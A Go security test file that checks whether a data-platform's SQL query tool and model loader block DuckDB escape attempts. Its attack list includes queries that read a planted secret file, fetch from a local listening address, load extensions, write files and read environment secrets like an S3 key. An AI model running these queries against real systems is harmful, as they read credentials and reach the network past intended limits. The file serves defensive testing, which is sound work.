package security_test

import (
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"millrace/reactor/gold"
	"millrace/reactor/silver/datasets"
	"millrace/tests/harness"
)

// attacks try to make a database read what it should not. %[1]s is a file with a secret in it, %[2]s a folder, %[3]s an address at
// which somebody listens.
var attacks = []string{
	"select * from '%[1]s'",
	"select * from read_csv('%[1]s')",
	"select * from read_csv_auto('%[1]s')",
	"select content from read_text('%[1]s')",
	"select content from read_blob('%[1]s')",
	"select * from read_json('%[1]s')",
	"select * from read_ndjson_objects('%[1]s')",
	"select * from read_parquet('%[1]s')",
	"select * from parquet_schema('%[1]s')",
	"select * from glob('%[2]s/*')",
	"select * from sniff_csv('%[1]s')",
	"with a as (select content from read_text('%[1]s')), b as (select * from a) select * from b",
	"select (select content from read_text('%[1]s')) as x",
	"select * from (values (1)) v(i), lateral (select content from read_text('%[1]s')) x",
	"select list_transform([1], lambda i: (select content from read_text('%[1]s')))",
	"select * from query('select content from read_text(''%[1]s'')')",
	"select * from query_table('%[1]s')",
	"create macro steal() as table select content from read_text('%[1]s'); from steal()",
	"prepare p as select content from read_text('%[1]s'); execute p",
	"explain analyze select content from read_text('%[1]s')",
	"copy (select 1) to '%[2]s/out.csv'",
	"copy (select 1) to '%[2]s/out.parquet' (format parquet)",
	"create table t as select 1; copy t from '%[1]s'",
	"export database '%[2]s/out'",
	"import database '%[2]s'",
	"attach '%[2]s/out.db' as x",
	"attach 'http://%[3]s/x.db' as x",
	"install httpfs",
	"load httpfs",
	"load '%[2]s/evil.duckdb_extension'",
	"install sqlite from 'http://%[3]s'",
	"select * from 'http://%[3]s/x.csv'",
	"select * from read_csv('http://%[3]s/x.csv')",
	"select * from read_parquet('s3://lakehouse/silver/x.parquet')",
	"create secret (type s3, key_id 'a', secret 'b')",
	"set enable_external_access = true; select content from read_text('%[1]s')",
	"set lock_configuration = false",
	"reset lock_configuration",
	"pragma enable_external_access = true",
	"set allowed_paths = ['%[1]s']",
	"set extension_directory = '%[2]s'",
	"set log_query_path = '%[2]s/log'",
	"pragma enable_logging; set logging_storage = 'file'",
	"pragma enable_profiling = 'json'; pragma profiling_output = '%[2]s/p'; select 1",
	"set home_directory = '%[2]s'",
	"call enable_logging(storage = 'file', storage_path = '%[2]s')",
	"select getenv('HOME')",
	"select getenv('MILLRACE_S3_SECRET_KEY')",
	"checkpoint '%[2]s/out.db'",
	"vacuum into '%[2]s/out.db'",
}

// harmless questions may be answered. The answers must give nothing away.
var harmless = []string{
	"select name, value from duckdb_settings()",
	"select * from duckdb_secrets()",
	"select * from duckdb_databases()",
	"select * from duckdb_temporary_files()",
	"select current_setting('temp_directory')",
	"select * from information_schema.tables",
}

// bait is a file with a secret and an address that counts who comes.
type bait struct {
	file, dir, address string
	calls              atomic.Int64
}

const hidden = "hunter2-in-a-file"

func newBait(t *testing.T) *bait {
	t.Helper()
	b := &bait{dir: t.TempDir()}
	b.file = filepath.Join(b.dir, "secret.csv")
	if err := os.WriteFile(b.file, []byte("password\n"+hidden+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	b.address = l.Addr().String()
	server := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		b.calls.Add(1)
		_, _ = fmt.Fprintln(w, "a,b\n1,2")
	})}
	go func() { _ = server.Serve(l) }()
	t.Cleanup(func() { _ = server.Close() })
	return b
}

func (b *bait) sql(attack string) string {
	return fmt.Sprintf(attack+"%.0[1]s%.0[2]s%.0[3]s", b.file, b.dir, b.address)
}

// untouched fails the test when something was written or fetched.
func (b *bait) untouched(t *testing.T, attack string) {
	t.Helper()
	if left, err := os.ReadDir(b.dir); err != nil || len(left) != 1 {
		t.Errorf("%s wrote: %v %v", attack, left, err)
	}
	if b.calls.Load() > 0 {
		t.Errorf("%s went to the network", attack)
	}
}

func queries(t *testing.T, s *harness.Stack) {
	b := newBait(t)
	env := s.Env(t, "reactor")
	var given []string
	for _, name := range []string{"MILLRACE_S3_SECRET_KEY", "MILLRACE_NATS_URL"} {
		given = append(given, s.Vars(t, "reactor")[name])
	}
	run := func(sql string) harness.Result {
		r := harness.RunProgram(t, env, "reactor", "query", "--output", "csv", sql)
		for _, secret := range append(given, hidden) {
			if strings.Contains(r.String(), secret) {
				t.Errorf("%s gave away %s: %s", sql, secret, r)
			}
		}
		b.untouched(t, sql)
		return r
	}
	for _, attack := range attacks {
		if r := run(b.sql(attack)); r.Code != 1 {
			t.Errorf("went through: %s: %s", attack, r)
		}
	}
	for _, sql := range harmless {
		run(sql)
	}
	if r := run("select count(*) as n from silver.asset_snapshots"); r.Code != 0 {
		t.Errorf("a plain query after all that: %s", r)
	}
}

// A model runs inside the reactor, with everything that the reactor has. All of the attacks are tried on the loader itself,
// some on a reactor that starts.
func models(t *testing.T, s *harness.Stack) {
	b := newBait(t)
	dir := t.TempDir()
	write := func(text string) {
		if err := os.WriteFile(filepath.Join(dir, "evil.sql"), []byte("-- model: gold.evil\n-- grain: day\n-- lookback: 0 days\n"+text+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	var inputs []gold.Input
	for _, d := range datasets.All() {
		in, err := gold.InputOf("silver."+d.Table, d.Schema(), d.Key)
		if err != nil {
			t.Fatal(err)
		}
		inputs = append(inputs, in)
	}
	for i, attack := range attacks {
		sql := b.sql(attack)
		for kind, text := range map[string]string{
			"a whole model":      sql,
			"a column":           "select day, (" + sql + ") as x from gold.market_summary",
			"a common table":     "with x as (" + sql + ") select day from gold.market_summary, x",
			"a second statement": "select day from gold.market_summary; " + sql,
		} {
			write(text)
			if _, err := gold.Load(t.Context(), inputs, dir); err == nil || strings.Contains(err.Error(), hidden) {
				t.Errorf("%s as %s: %v", attack, kind, err)
			}
			b.untouched(t, attack)
		}
		if i%10 != 0 {
			continue
		}
		write(sql)
		r := harness.RunProgram(t, append(s.Env(t, "reactor"), "MILLRACE_MODELS="+dir), "reactor", "run", "--http-addr", "127.0.0.1:0")
		if r.Code != 1 || strings.Contains(r.String(), hidden) {
			t.Errorf("a reactor with the model %s: %s", attack, r)
		}
		b.untouched(t, attack)
	}
}
